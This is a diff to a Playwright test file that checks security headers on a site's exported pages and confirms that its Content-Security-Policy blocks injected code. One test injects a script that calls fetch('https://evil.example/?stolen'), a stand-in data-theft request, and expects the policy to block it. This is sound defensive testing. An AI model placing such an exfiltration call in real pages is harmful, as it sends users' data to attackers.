@@ -1,8 +1,9 @@
 import { audiences, homeAudience } from '@/content/audiences';
-import { headersFile } from '@/scripts/export/headers.mjs';
+import { icons } from '@/lib/icons';
+import { hashedFiles, headersFile } from '@/scripts/export/headers.mjs';
 import { emailPolicy } from '@/scripts/export/policy.mjs';
 import { exportedFiles, noSignInExport, readExported, signInExport } from './exports';
-import { expect, pages, postViews, test, unknownPath } from './fixtures';
+import { expect, landingPage, pages, postViews, test, unknownPath } from './fixtures';
 import { identityService } from './sign-in';
 
 const [post = '', framedPost = ''] = postViews.map(({ route }) => route);
@@ -48,14 +49,32 @@ for (const [folder, addresses] of Object.entries(exports)) {
 
 test('each export includes a _headers file, for other hosts', () => {
   for (const folder of Object.keys(exports))
-    expect(readExported(folder, '_headers')).toBe(headersFile());
+    expect(readExported(folder, '_headers')).toBe(headersFile(hashedFiles(folder)));
+});
+
+test('each HTML file is served with its policy as a header, too', async ({ request }) => {
+  for (const file of exportedFiles(signInExport, '.html')) {
+    const [, policy] =
+      /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(
+        readExported(signInExport, file),
+      ) ?? [];
+    const response = await request.get(`/${file}`);
+    const frames = /^emails|embed\.html$/.test(file) ? 'self' : 'none';
+    expect([file, response.headers()['content-security-policy']]).toEqual([
+      file,
+      `${policy}; frame-ancestors '${frames}'`,
+    ]);
+  }
 });
 
 test('every file is served with the headers for its kind', async ({ request, page }) => {
-  await page.goto('/');
-  const chunk = await page.locator('script[src]').first().getAttribute('src');
+  await page.goto(landingPage.route);
+  const scripts = await page
+    .locator('script[src]')
+    .evaluateAll((all) => all.map((script) => script.getAttribute('src') ?? ''));
   const none = "frame-ancestors 'none'";
   const self = "frame-ancestors 'self'";
+  const icon = icons[0]?.file ?? '';
   const kinds: [url: string, frames: string, caching: unknown][] = [
     ...pages.map(({ route }): [string, string, string] => [route, none, 'no-cache']),
     [unknownPath, none, 'no-cache'],
@@ -63,17 +82,24 @@ test('every file is served with the headers for its kind', async ({ request, pag
     [framedPost, self, 'no-cache'],
     [email, self, 'no-cache'],
     [`${email}.txt`, self, 'no-cache'],
+    [icon, self, 'no-cache'],
     ['/no/such/page', self, expect.anything()],
-    [chunk ?? '', self, 'public, max-age=31536000, immutable'],
+    ...scripts.map((url): [string, string, string] => [
+      url,
+      self,
+      'public, max-age=31536000, immutable',
+    ]),
+    ['/_next/static/chunks/gone.js', self, 'no-cache'],
   ];
   for (const [url, frames, caching] of kinds) {
     const headers = (await request.get(url)).headers();
     expect({ url, ...headers }).toMatchObject({
       url,
-      'content-security-policy': frames,
+      'content-security-policy': expect.stringMatching(new RegExp(`${frames}$`)),
       'cache-control': caching,
       'strict-transport-security': expect.stringMatching(/^max-age=/),
       'cross-origin-opener-policy': 'same-origin-allow-popups',
+      'cross-origin-resource-policy': url === icon ? 'cross-origin' : 'same-origin',
       'x-content-type-options': 'nosniff',
       'referrer-policy': 'strict-origin-when-cross-origin',
       'permissions-policy': expect.stringContaining('camera=()'),
@@ -88,8 +114,9 @@ test.describe('code injected into a page', () => {
     page,
   }) => {
     await page.goto('/');
-    const violations: string[] = [];
-    await page.exposeFunction('report', (violation: string) => violations.push(violation));
+    // A set, because the policy is both in the HTML and in a header, and each one reports.
+    const violations = new Set<string>();
+    await page.exposeFunction('report', (violation: string) => void violations.add(violation));
     await page.evaluate(() => {
       document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
         // oxlint-disable-next-line typescript/no-unsafe-type-assertion
@@ -115,7 +142,7 @@ test.describe('code injected into a page', () => {
       fetch('https://evil.example/?stolen').catch(() => {});
     });
     await expect
-      .poll(() => violations.toSorted())
+      .poll(() => [...violations].toSorted())
       .toEqual([
         'connect-src https://evil.example/?stolen',
         'frame-src https://evil.example',
